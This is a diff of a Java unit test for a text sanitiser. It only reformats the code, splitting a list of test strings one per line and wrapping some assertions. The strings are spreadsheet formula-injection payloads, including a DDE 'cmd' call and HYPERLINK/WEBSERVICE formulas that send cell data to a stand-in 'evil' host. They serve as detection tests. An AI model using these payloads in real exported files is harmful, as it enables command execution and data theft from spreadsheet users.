@@ -12,8 +12,22 @@ class SafeTextTest {
     @ParameterizedTest
     @ValueSource(
             strings = {
-                "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1", "\n=1", "\0=1", ";=1", "|calc", "\uFF1D1+1",
-                "\uFF0B1", "\uFF0D1", "\uFF20SUM(A1)", "=HYPERLINK(\"http://evil/\"&A1)", "=WEBSERVICE(\"http://evil\")"
+                "=cmd|' /C calc'!A0",
+                "+1+1",
+                "-2+3",
+                "@SUM(A1)",
+                "\t=1+1",
+                "\r=1",
+                "\n=1",
+                "\0=1",
+                ";=1",
+                "|calc",
+                "\uFF1D1+1",
+                "\uFF0B1",
+                "\uFF0D1",
+                "\uFF20SUM(A1)",
+                "=HYPERLINK(\"http://evil/\"&A1)",
+                "=WEBSERVICE(\"http://evil\")"
             })
     void whatCouldBecomeAFormulaIsKnown(String text) {
         assertThat(SafeText.looksLikeFormula(text)).isTrue();
@@ -73,7 +87,9 @@ class SafeTextTest {
     @Test
     void aCutNeverHalvesACharacter() {
         String faces = SafeText.of("\uD83D\uDE00".repeat(20_000));
-        assertThat(faces.codePoints().filter(point -> point >= 0xD800 && point <= 0xDFFF)).isEmpty();
-        assertThat(SafeText.of("x" + faces).codePoints().filter(point -> point >= 0xD800 && point <= 0xDFFF)).isEmpty();
+        assertThat(faces.codePoints().filter(point -> point >= 0xD800 && point <= 0xDFFF))
+                .isEmpty();
+        assertThat(SafeText.of("x" + faces).codePoints().filter(point -> point >= 0xD800 && point <= 0xDFFF))
+                .isEmpty();
     }
 }
